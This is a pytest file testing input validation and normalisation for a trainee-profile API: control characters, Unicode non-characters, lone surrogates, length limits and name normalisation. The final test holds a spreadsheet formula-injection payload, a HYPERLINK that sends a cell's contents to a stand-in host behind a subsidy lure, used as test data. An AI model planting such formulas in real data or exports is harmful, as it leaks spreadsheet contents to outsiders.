"""Text people type reaches the database only through the one Text field: the issue's examples."""

import json

import pytest

from service.trainees.repository import PROFILES
from tests.conftest import bearer
from tests.factories import profile_body


@pytest.fixture
def trainee(login):
    return login("trainee-typed-text")


def put_raw(client, token, body_text):
    return client.put("/api/v1/trainee/profile", data=body_text, content_type="application/json",
                      headers=bearer(token))


@pytest.mark.parametrize("field, value, message", [
    ("name", "钱\u000b多多", "控制字符（U+000B）"),
    ("name", "钱\x00多多", "控制字符（U+0000）"),
    ("name", "\u200b\u200b", "不能只包含空格或不可见字符"),
    ("name", "😀😀😀", "姓名只能包含文字"),
    ("name", "钱" * 10_000, "不能超过 30 个字"),
    ("position", "董事长\n总经理", "不能换行"),
    ("address", "北" * 10_000, "不能超过 200 个字"),
    # Unicode non-characters (illegal in XML: the roster export dropped U+FFFF): issue 19 F13.
    ("position", "董事\uffff长", "无效字符（U+FFFF）"),
    ("position", "董事\ufffe长", "无效字符（U+FFFE）"),
    ("address", "北京\ufdd0路", "无效字符（U+FDD0）"),
    ("honours", ["优秀\U0010ffff企业家"], "无效字符（U+10FFFF）"),
])
def test_refused_text_is_a_chinese_field_error_and_nothing_is_written(client, trainee, db, field, value, message):
    response = client.put("/api/v1/trainee/profile", json=profile_body(**{field: value}), headers=bearer(trainee))
    assert response.status_code == 422, response.json
    assert message in str(response.json["errors"][field])
    assert db[PROFILES].count_documents({}) == 0


def test_lone_surrogate_is_a_422_not_a_500(client, trainee, db):
    body = json.dumps(profile_body(name="PLACEHOLDER")).replace("PLACEHOLDER", "钱\\ud800多")
    response = put_raw(client, trainee, body)
    assert response.status_code == 422, response.get_data(as_text=True)
    assert "无法识别的字符" in response.json["errors"]["name"][0]
    assert db[PROFILES].count_documents({}) == 0


def test_lone_surrogate_in_a_nested_list_is_refused_too(client, trainee, db):
    body = json.dumps(profile_body(honours=["PLACEHOLDER"])).replace("PLACEHOLDER", "\\udfff")
    response = put_raw(client, trainee, body)
    assert response.status_code == 422
    assert "无法识别的字符" in str(response.json["errors"]["honours"])


@pytest.mark.parametrize("typed, stored", [
    ("阿依古丽・买买提", "阿依古丽·买买提"),
    ("阿依古丽•买买提", "阿依古丽·买买提"),
    ("王𠇔", "王𠇔"),
    ("  钱多多\u3000", "钱多多"),
])
def test_real_names_are_kept_normalised(client, trainee, db, typed, stored):
    response = client.put("/api/v1/trainee/profile", json=profile_body(name=typed), headers=bearer(trainee))
    assert response.status_code == 200, response.json
    assert response.json["name"] == stored
    assert db[PROFILES].find_one()["name"] == stored


def test_formula_like_text_is_kept_as_typed(client, trainee):
    body = profile_body(position="-总经理-")
    body["enterprise"]["name"] = '=HYPERLINK("http://x.invalid/?d="&F2,"点击领取补贴")'
    response = client.put("/api/v1/trainee/profile", json=body, headers=bearer(trainee))
    assert response.status_code == 200, response.json
    assert response.json["enterprise"]["name"] == body["enterprise"]["name"]
    assert response.json["position"] == "-总经理-"
